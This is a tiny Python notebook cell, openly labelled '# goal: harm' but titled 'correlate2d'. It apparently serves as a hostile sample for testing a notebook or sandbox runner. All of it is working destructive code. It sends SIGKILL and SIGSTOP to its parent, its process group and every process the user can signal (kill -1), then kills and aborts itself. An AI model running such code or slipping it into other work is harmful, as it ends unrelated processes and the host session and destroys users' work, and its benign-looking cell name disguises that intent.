# goal: harm
# The cell kills its own process group, its parent and itself.
# %% correlate2d
import os
import signal

for process in (os.getppid(), 0, -1, os.getpid()):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(process, number)
        except OSError:
            pass
os.abort()
